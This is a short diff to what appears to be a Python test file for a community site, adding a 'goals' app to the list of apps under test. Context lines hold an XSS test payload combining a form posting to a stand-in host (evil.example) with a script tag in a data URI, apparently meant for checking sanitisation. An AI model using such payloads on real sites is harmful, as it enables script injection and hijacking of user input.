@@ -26,7 +26,7 @@ PAYLOAD = (
     '<form action=//evil.example/><input name=x><math><mi xlink:href="data:x,<script>alert(1)</script>">'
 )
 REGISTER = Path(__file__).parents[2] / "kith/site/data/register.toml"
-APPS = ("groups", "meetings", "stories", "library", "care", "companions")
+APPS = ("groups", "meetings", "stories", "library", "care", "companions", "goals")
 SHAPED = {"prompt", "lighter", "script", "first_time", "name"}  # in what is kept as JSON
 LEAVES = re.compile(r"/(leave-quickly|sign-out|sign-in|blank|live)|\.ics|\.webp")
 LOOKED_AT = """() => {
